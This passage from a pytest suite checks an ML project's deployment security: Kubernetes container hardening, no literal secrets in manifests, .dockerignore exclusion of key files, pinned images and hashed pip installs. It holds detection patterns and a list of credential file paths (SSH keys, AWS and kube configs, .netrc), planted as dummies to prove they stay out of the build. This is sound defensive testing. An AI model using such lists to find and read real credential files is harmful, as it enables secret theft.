    pods.append(("rayjob submitter", job["spec"]["submitterPodTemplate"]["spec"]))
    (service,) = _yaml_docs(INFRA / "k8s/rayservice.yaml")
    serving = service["spec"]["rayClusterConfig"]
    pods.append(("rayservice head", serving["headGroupSpec"]["template"]["spec"]))
    for group in serving["workerGroupSpecs"]:
        pods.append((f"rayservice {group['groupName']}", group["template"]["spec"]))
    template = json.loads((INFRA / "prefect/k8s-base-job-template.json").read_text())
    pods.append(("prefect flow pod",
                 template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]))
    return pods


def _k8s_containers() -> list[tuple[str, dict, dict]]:
    return [(f"{where}/{c['name']}", c, pod) for where, pod in _k8s_pods()
            for c in pod.get("initContainers", []) + pod["containers"]]


def test_every_kubernetes_container_is_hardened():
    assert len(_k8s_containers()) == 7
    for where, container, pod in _k8s_containers():
        sc = container["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["runAsUser"] == 1000, where  # the image's user
        assert sc["allowPrivilegeEscalation"] is False, where
        assert sc["capabilities"] == {"drop": ["ALL"]}, where
        assert sc["readOnlyRootFilesystem"] is True, where
        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}, where
        assert "privileged" not in sc and "add" not in sc["capabilities"], where
        # the one writable path: /tmp (Ray's temp dir, HOME, the run's clone) on an emptyDir
        volumes = {v["name"]: v for v in pod.get("volumes", [])}
        mounts = {m["mountPath"]: m["name"] for m in container["volumeMounts"]}
        assert "emptyDir" in volumes[mounts["/tmp"]], where
        env = {e["name"]: e for e in container.get("env", [])}
        assert env["HOME"]["value"] == "/tmp", where
        assert pod["automountServiceAccountToken"] is False, where
        assert pod["securityContext"]["runAsNonRoot"] is True, where
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}, where
        assert not pod.get("hostNetwork") and not pod.get("hostPID"), where
        assert not any("hostPath" in v for v in volumes.values()), where


SECRET_NAME = re.compile(r"TOKEN|PASSWORD|SECRET|ACCESS_KEY|AUTH_STRING|CREDENTIAL|_KEY$")


def test_kubernetes_files_hold_no_literal_secret():
    readme = (INFRA / "README.md").read_text()
    for where, container, _pod in _k8s_containers():
        for entry in container.get("env", []):
            if SECRET_NAME.search(entry["name"]):
                assert set(entry) == {"name", "valueFrom"}, (where, entry["name"])
                assert set(entry["valueFrom"]) == {"secretKeyRef"}, (where, entry["name"])
            if "value" in entry:
                assert not re.search(r"://[^/@\s]+:[^/@\s]+@", entry["value"]), where
        for source in container.get("envFrom", []):
            (kind,) = source
            assert kind in ("secretRef", "configMapRef"), where
        for name in _secret_names(container):
            assert f"`{name}`" in readme, name  # what an operator must create
    for path in sorted((INFRA / "k8s").glob("*.yaml")):
        for doc in _yaml_docs(path):
            assert doc["kind"] not in ("Secret", "ConfigMap"), path


def _secret_names(container: dict) -> set[str]:
    names = {s["secretRef"]["name"] for s in container.get("envFrom", []) if "secretRef" in s}
    names |= {e["valueFrom"]["secretKeyRef"]["name"] for e in container.get("env", [])
              if "secretKeyRef" in e.get("valueFrom", {})}
    return names


# --- build context: .dockerignore -----------------------------------------------------------

def _docker_regex(pattern: str) -> re.Pattern:
    """moby's patternmatcher translation of one .dockerignore pattern: Go's filepath.Match
    (`*` and `?` stop at `/`, `[...]` classes) plus `**` (any number of directories)."""
    out, i = "^", 0
    while i < len(pattern):
        ch = pattern[i]
        if ch == "*":
            if pattern[i + 1:i + 2] == "*":
                i += 1
                if pattern[i + 1:i + 2] == "/":
                    i += 1
                    out += "(.*/)?"
                else:
                    out += ".*"
            else:
                out += "[^/]*"
        elif ch == "?":
            out += "[^/]"
        elif ch == "\\" and i + 1 < len(pattern):
            i += 1
            out += re.escape(pattern[i])
        elif ch == "[":
            end = pattern.index("]", i + 1)
            out += pattern[i:end + 1]
            i = end
        else:
            out += re.escape(ch)
        i += 1
    return re.compile(out + "$")


def _dockerignore_rules(text: str) -> list[tuple[bool, re.Pattern, str]]:
    """(exception?, regex, pattern) per line: comments and blanks skipped, `!` an exception,
    the pattern cleaned as filepath.Clean does with a leading `/` dropped."""
    rules = []
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        exception = line.startswith("!")
        pattern = posixpath.normpath(line[1:].strip() if exception else line).lstrip("/")
        rules.append((exception, _docker_regex(pattern), pattern))
    return rules


def _excluded(path: str, rules: list[tuple[bool, re.Pattern, str]]) -> bool:
    """Docker's rule: the last pattern matching the path or one of its parent directories
    decides; an exception re-includes."""
    parts = path.split("/")
    candidates = [path] + ["/".join(parts[:i]) for i in range(1, len(parts))]
    excluded = False
    for exception, regex, _pattern in rules:
        if any(regex.match(c) for c in candidates):
            excluded = not exception
    return excluded


def test_dockerignore_matcher_follows_dockers_documented_examples():
    rules = _dockerignore_rules("*.md\n!README*.md\nREADME-secret.md\n")
    assert _excluded("CHANGES.md", rules) and not _excluded("README.md", rules)
    assert _excluded("README-secret.md", rules)
    rules = _dockerignore_rules("*.md\nREADME-secret.md\n!README*.md\n")
    assert not _excluded("README-secret.md", rules)
    rules = _dockerignore_rules("# comment\n*/temp*\n*/*/temp*\ntemp?\n**/*.go\n/node_modules\n")
    assert _excluded("somedir/temporary.txt", rules) and _excluded("somedir/temp", rules)
    assert _excluded("somedir/subdir/temporary.txt", rules) and _excluded("tempa", rules)
    assert not _excluded("temporary.txt", rules) and not _excluded("a/b/c/temp.txt", rules)
    assert _excluded("main.go", rules) and _excluded("a/b/main.go", rules)
    assert _excluded("node_modules/x/y.js", rules)  # a directory excludes what is inside
    rules = _dockerignore_rules("*\n!src\n**/.env\n")
    assert _excluded("x.txt", rules) and not _excluded("src/a/b.py", rules)
    assert _excluded("src/a/.env", rules) and _excluded(".env", rules)


def _copy_sources() -> list[str]:
    text = (INFRA / "Dockerfile").read_text()
    sources = []
    for line in re.findall(r"^COPY (?!--from)(.+)$", text, re.M):
        sources += [posixpath.normpath(s) for s in line.split()[:-1]]
    return sources


def _is_secret_file(path: str) -> bool:
    parts = path.split("/")
    name = parts[-1]
    return (name in {".env", ".netrc", ".pgpass", ".git-credentials", ".pypirc", ".npmrc"}
            or name.startswith((".env.", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519",
                                "credentials", "kubeconfig"))
            or name.endswith((".env", ".pem", ".key", ".p12", ".pfx", ".jks"))
            or bool({".aws", ".ssh", ".kube", ".docker", ".gnupg"} & set(parts[:-1])))


def test_no_key_or_env_file_can_enter_the_build_context(tmp_path):
    """The build context as Docker would send it: a copy of the repository's file tree
    (empty files) plus env, key and credentials files dropped everywhere, filtered by
    .dockerignore. None of those enters; every file the Dockerfile copies does, and
    nothing else."""
    assert not (INFRA / "Dockerfile.dockerignore").exists()  # it would replace .dockerignore
    rules = _dockerignore_rules((REPO / ".dockerignore").read_text())
    sources = _copy_sources()
    # deny by default, then exactly the COPY sources, as literal paths (Docker walks into an
    # excluded directory only for an exception naming a path below it)
    assert rules[0][2] == "*" and not rules[0][0]
    exceptions = [pattern for exception, _regex, pattern in rules if exception]
    assert sorted(exceptions) == sorted(set(sources))
    assert not any(set(p) & set("*?[\\") for p in exceptions)
    skip = {".git", ".venv", ".tools", "__pycache__", ".pytest_cache", ".ruff_cache"}
    for path in REPO.rglob("*"):
        rel = path.relative_to(REPO)
        if path.is_file() and not skip & set(rel.parts):
            (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / rel).touch()
    planted = []
    secrets = [".env", ".env.production", "prod.env", "server.pem", "tls.key", "id_rsa",
               "id_ed25519.pub", "keystore.p12", "cert.pfx", "credentials.json", "credentials",
               ".netrc", ".pgpass", ".git-credentials", ".aws/credentials", ".aws/config",
               ".ssh/id_rsa", ".kube/config", ".docker/config.json"]
    for folder in ["", "infra", "infra/prefect", "infra/mlflow", "infra/k8s", "fusion",
                   "fusion/mlops", "flows", "flows/profiles"]:
        for name in secrets:
            rel = posixpath.join(folder, name)
            (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / rel).write_text("AKIA-not-a-real-key\n")
            planted.append(rel)
    assert "infra/.env" in planted
    files = [p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()]
    context = {f for f in files if not _excluded(f, rules)}
    leaked = sorted(f for f in context if _is_secret_file(f))
    assert not leaked
    assert all(_excluded(f, rules) for f in planted)
    wanted = {f for f in files for s in sources if (f == s or f.startswith(s + "/"))
              and not _is_secret_file(f) and "__pycache__" not in f}
    assert wanted - context == set()  # every path the Dockerfile copies is there
    assert context - wanted == set()  # and nothing else
    for source in sources:
        assert any(f == source or f.startswith(source + "/") for f in context), source


def test_dockerfile_copies_only_what_the_image_runs():
    text = (INFRA / "Dockerfile").read_text()
    assert not re.search(r"^ADD ", text, re.M)
    sources = _copy_sources()
    assert "." not in sources and "infra" not in sources  # no wholesale copy
    infra = sorted(s for s in sources if s.startswith("infra"))
    assert infra == ["infra/mlflow", "infra/prefect", "infra/uv-requirements.txt"]
    # what the containers run from those folders is there
    compose = (INFRA / "compose.yaml").read_text()
    for path in re.findall(r"/app/(infra/[\w/.-]+)", compose) + re.findall(
            r"(?<![/\w])(infra/prefect/[\w.-]+)", compose):
        assert (REPO / path).exists() and any(path.startswith(s) for s in infra), path


# --- pinned images and tools ---------------------------------------------------------------

def _project_version() -> str:
    return re.search(r'^version = "([^"]+)"', (REPO / "pyproject.toml").read_text(),
                     re.M).group(1)


def _images() -> list[tuple[str, str]]:
    """(where, image reference) of every image the infra files pull or build."""
    found = [("Dockerfile", ref) for ref in re.findall(r"^FROM (\S+)", (INFRA / "Dockerfile")
                                                         .read_text(), re.M)]
    for name, service in _compose()["services"].items():
        found.append((f"compose {name}", service["image"]))

    def walk(node: Any, where: str):
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "image" and isinstance(value, str):
                    found.append((where, value))
                else:
                    walk(value, where)
        elif isinstance(node, list):
            for item in node:
                walk(item, where)

    for path in sorted((INFRA / "k8s").glob("*.yaml")):
        for doc in _yaml_docs(path):
            walk(doc, path.name)
    walk(json.loads((INFRA / "prefect/k8s-base-job-template.json").read_text()),
         "k8s-base-job-template.json")
    return found


def test_every_image_is_pinned():
    """No `latest` and no untagged name: third-party images by an exact release tag and a
    digest, the project's image by the project's version."""
    images = _images()
    assert len(images) >= 12
    for where, ref in images:
        name, _, tag = ref.partition("@")[0].rpartition(":")
        assert name and "/" not in tag, (where, ref)  # a tag, not a registry port
        assert tag != "latest", (where, ref)
        if name == PROJECT_IMAGE:
            assert tag == _project_version(), (where, ref)
            continue
        assert re.fullmatch(r"[^@]+:[\w.-]+@sha256:[0-9a-f]{64}", ref), (where, ref)
        assert re.search(r"\d+\.\d+", tag) or tag.startswith("RELEASE."), (where, ref)
    refs = {ref for _where, ref in images}
    assert not any(r.startswith(("minio/", "docker.io/minio/")) for r in refs)  # gone from Hub


def test_pip_installs_are_pinned_with_hashes():
    text = (INFRA / "Dockerfile").read_text()
    installs = re.findall(r"\bpip install\b([^&\n\\]*(?:\\\n[^&\n\\]*)*)", text)
    assert len(installs) == 1  # uv itself; everything else comes from uv.lock
    for args in installs:
        args = args.replace("\\\n", " ")
        assert "--require-hashes" in args, args
        (requirements,) = re.findall(r"-r\s+(\S+)", args)
        path = REPO / "infra" / Path(requirements).name
        lines = path.read_text().replace("\\\n", " ").splitlines()
        specs = [line for line in lines if line.strip() and not line.startswith("#")]
        assert specs, path
        for spec in specs:
            assert re.match(r"^[\w.-]+==\d+(\.\d+)+ ", spec), spec
            assert re.search(r"--hash=sha256:[0-9a-f]{64}", spec), spec
    assert re.search(r"^uv==\d+\.\d+\.\d+ ", (INFRA / "uv-requirements.txt").read_text()
                     .replace("\\\n", " "), re.M)
    for path in [INFRA / "compose.yaml", *sorted((INFRA / "k8s").glob("*.yaml"))]:
        assert "pip install" not in path.read_text(), path


def test_security_docs_are_linked():
    doc = (REPO / "docs/security.md").read_text()
    assert "../docs/security.md" in (INFRA / "README.md").read_text()
    for heading in ("anonymous", "MLflow", "Prefect", "worker", "Ray node"):
        assert heading.lower() in doc.lower(), heading


# --- serving ---------------------------------------------------------------------------------

def test_rayservice_deploys_the_application_fusion_serve_deploys():
    """KubeRay's RayService imports the builder `fusion serve` uses, with params the image
    holds and overrides that load; its head exposes the port the application listens on."""
    import fusion.models  # noqa: F401
    from fusion.serving import app

    (service,) = _yaml_docs(INFRA / "k8s/rayservice.yaml")
    config = yaml.safe_load(service["spec"]["serveConfigV2"])
    (application,) = config["applications"]
    module, function = application["import_path"].split(":")
    assert module == app.__name__ and list(inspect.signature(getattr(app, function))
                                           .parameters) == ["args"]
    args = application["args"]
    assert args["params"] == "/app/params.yaml"  # COPY params.yaml in the image
    assert "COPY params.yaml" in (INFRA / "Dockerfile").read_text()
    params = load_params(REPO / "params.yaml", args["set"])
    port = config["http_options"]["port"]
    assert port == params.serve.port and application["route_prefix"] == "/"
    head = service["spec"]["rayClusterConfig"]["headGroupSpec"]["template"]["spec"]
    assert {"containerPort": port, "name": "serve"} in head["containers"][0]["ports"]
    env = {e["name"]: e.get("value") for e in head["containers"][0]["env"]}
    assert env["RAY_SERVE_PROXY_READY_CHECK_TIMEOUT_S"] == "60"  # as fusion sets it


def test_compose_serves_through_the_cli_on_the_published_port():
    services = _compose()["services"]
    command = services["serve"]["command"]
    _check_fusion_command(command)
    parser, _ = build_parser()
    args = parser.parse_args(command[1:])
    assert args.stage == "serve" and args.address == "ray-head:6379"
    params = load_params(REPO / "params.yaml", args.overrides)
    assert params.serve.host == "0.0.0.0"  # inside the network; published on the bind address
    assert f"{BIND}:{params.serve.port}:{params.serve.port}" in services["ray-head"]["ports"]
    assert params.serve.proxy_location == "HeadOnly"  # the proxy is the head's
